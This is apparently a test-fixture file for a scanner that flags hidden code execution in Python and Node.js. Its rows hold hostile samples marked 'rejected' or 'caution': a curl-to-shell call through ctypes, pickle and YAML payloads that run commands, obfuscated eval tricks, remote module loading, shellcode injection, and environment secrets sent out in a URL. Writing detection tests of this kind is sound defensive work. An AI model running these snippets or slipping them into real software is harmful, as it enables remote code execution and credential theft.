import { EXFILTRATION, HIDDEN_RUN, OBFUSCATED, PAYLOAD, REMOTE, lines, type Row } from "./row";

/** Ways of Python and Node.js to run something without the usual call. */
export const OTHER_WAYS: readonly Row[] = [
  [
    "Python by ctypes",
    "rejected",
    PAYLOAD,
    {
      "main.py": lines(
        "import ctypes",
        "libc = ctypes.CDLL('libc.so.6')",
        "libc.system(b'curl -s http://45.77.10.20/a | sh')",
      ),
    },
  ],
  [
    "a pickle that starts a program",
    "rejected",
    HIDDEN_RUN,
    { "main.py": lines("import pickle", "pickle.loads(b\"cos\\nsystem\\n(S'id'\\ntR.\")") },
  ],
  [
    "a pickle file that starts a program",
    "rejected",
    HIDDEN_RUN,
    {
      "model.pkl": Buffer.from(
        "\x80\x04\x95\x1d\0\0\0\0\0\0\0\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c\x02id\x94\x85\x94R\x94.",
        "latin1",
      ),
    },
  ],
  [
    "a downloaded pickle",
    "rejected",
    REMOTE,
    {
      "main.py": lines(
        "import pickle, requests",
        "data = pickle.loads(requests.get('https://x.example/m.pkl').content)",
      ),
    },
  ],
  [
    "a decoded pickle",
    "rejected",
    HIDDEN_RUN,
    {
      "main.py": lines(
        "import pickle, base64",
        "pickle.loads(base64.b64decode('Y29zCnN5c3RlbQooUydpZCcKdFIu'))",
      ),
    },
  ],
  [
    "YAML that makes objects, from the network",
    "caution",
    REMOTE,
    {
      "main.py": lines(
        "import yaml, requests",
        "yaml.load(requests.get('https://x.example/c.yml').text, Loader=yaml.UnsafeLoader)",
      ),
    },
  ],
  [
    "YAML that starts a program when it is loaded",
    "rejected",
    HIDDEN_RUN,
    { "config.yml": lines("a: !!python/object/apply:os.system", "- id") },
  ],
  [
    "a builtin taken from the dictionary",
    "caution",
    OBFUSCATED,
    { "main.py": lines("__builtins__.__dict__['ex' + 'ec'](input())") },
  ],
  [
    "a builtin taken by getattr",
    "caution",
    OBFUSCATED,
    { "main.py": lines("import builtins", "getattr(builtins, 'lave'[::-1])(input())") },
  ],
  [
    "a builtin reached over subclasses",
    "caution",
    OBFUSCATED,
    {
      "main.py": lines(
        "[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0].__init__.__globals__['system']('id')",
      ),
    },
  ],
  [
    "a module named by a download",
    "rejected",
    REMOTE,
    {
      "main.py": lines(
        "import importlib.util, urllib.request",
        "urllib.request.urlretrieve('https://x.example/m.py', '/tmp/m.py')",
        "spec = importlib.util.spec_from_file_location('m', '/tmp/m.py')",
        "m = importlib.util.module_from_spec(spec)",
        "spec.loader.exec_module(m)",
      ),
    },
  ],
  [
    "a program as text for a timer",
    "rejected",
    REMOTE,
    {
      "main.py": lines(
        "import timeit, requests",
        "timeit.timeit(requests.get('https://x.example/p').text, number=1)",
      ),
    },
  ],
  [
    "machine code placed in memory",
    "rejected",
    HIDDEN_RUN,
    {
      "main.py": lines(
        "import ctypes",
        "buf = bytes.fromhex('9090c3')",
        "p = ctypes.windll.kernel32.VirtualAlloc(0, len(buf), 0x3000, 0x40)",
        "ctypes.windll.kernel32.RtlMoveMemory(p, buf, len(buf))",
        "ctypes.windll.kernel32.CreateThread(0, 0, p, 0, 0, 0)",
      ),
    },
  ],
  [
    "secrets in an address that a browser opens",
    "rejected",
    EXFILTRATION,
    {
      "main.py": lines(
        "import os, webbrowser, json",
        "webbrowser.open('https://x.example/?d=' + json.dumps(dict(os.environ)))",
      ),
    },
  ],
  [
    "a module from the network in Node",
    "rejected",
    REMOTE,
    { "main.mjs": lines("const m = await import('https://x.example/m.mjs');", "m.run();") },
  ],
  [
    "a module in a data address",
    "caution",
    "suspicious.obfuscated_code",
    { "main.mjs": lines("await import('data:text/javascript;base64,Y29uc29sZS5sb2coMTIzNCk=');") },
  ],
  [
    "a constructor of a constructor",
    "caution",
    OBFUSCATED,
    { "main.mjs": lines("[]['filter']['constructor'](process.argv[2])();") },
  ],
  [
    "a worker made of a download",
    "rejected",
    REMOTE,
    {
      "main.mjs": lines(
        "import { Worker } from 'node:worker_threads';",
        "const code = await (await fetch('https://x.example/w.js')).text();",
        "new Worker(code, { eval: true });",
      ),
    },
  ],
];
